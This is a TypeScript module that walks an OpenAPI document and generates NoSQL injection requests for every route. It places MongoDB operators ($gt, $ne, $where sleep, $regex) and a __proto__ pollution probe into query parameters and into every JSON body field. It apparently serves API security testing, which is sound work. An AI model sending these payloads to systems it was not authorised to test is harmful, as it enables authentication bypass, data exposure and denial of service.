/** As much of an OpenAPI document as says what may be asked. */
export interface ApiDocument {
  paths: Record<string, Record<string, { parameters?: { name: string; in: string }[]; requestBody?: { content: Record<string, { schema: BodySchema }> } }>>;
}

interface BodySchema {
  type?: string;
  properties?: Record<string, BodySchema>;
  items?: BodySchema;
}

export interface Attack {
  method: string;
  path: string;
  body?: unknown;
}

const OPERATORS = [{ $gt: '' }, { $ne: null }, { $where: 'sleep(1000)' }, { $regex: '.*' }];

/** Every query parameter of every route as an operator of MongoDB, in the ways that query parsers make objects of. */
export function queryAttacks({ paths }: ApiDocument): Attack[] {
  return each(paths).flatMap(({ method, path, route }) =>
    (route.parameters ?? []).filter((parameter) => parameter.in === 'query').flatMap(({ name }) => ['[$gt]=', '[$ne]=x', '[$regex]=.*', '[][$gt]=', '[__proto__][x]=1'].map((operator) => ({ method, path: `${path}?${name}${operator}` }))),
  );
}

/** Every field of every body, at every depth the document tells of, as an operator. */
export function bodyAttacks({ paths }: ApiDocument): Attack[] {
  return each(paths).flatMap(({ method, path, route }) => {
    const schema = route.requestBody?.content['application/json']?.schema;
    return schema ? fieldsOf(schema).flatMap((field) => OPERATORS.map((operator) => ({ method, path, body: nested(field, operator) }))) : [];
  });
}

function each(paths: ApiDocument['paths']) {
  return Object.entries(paths).flatMap(([path, methods]) => Object.entries(methods).map(([method, route]) => ({ method, path: path.replace(/\{\w+\}/g, 'x'), route })));
}

/** Ways into a body; `[]` stands for a list's only element. */
function fieldsOf(schema: BodySchema): string[][] {
  const own = Object.entries(schema.properties ?? {}).flatMap(([name, inner]) => [[name], ...fieldsOf(inner).map((rest) => [name, ...rest])]);
  return schema.items ? [...own, ['[]'], ...fieldsOf(schema.items).map((rest) => ['[]', ...rest])] : own;
}

function nested([first, ...rest]: readonly string[], value: unknown): unknown {
  if (first === undefined) return value;
  const inner = nested(rest, value);
  return first === '[]' ? [inner] : { [first]: inner };
}
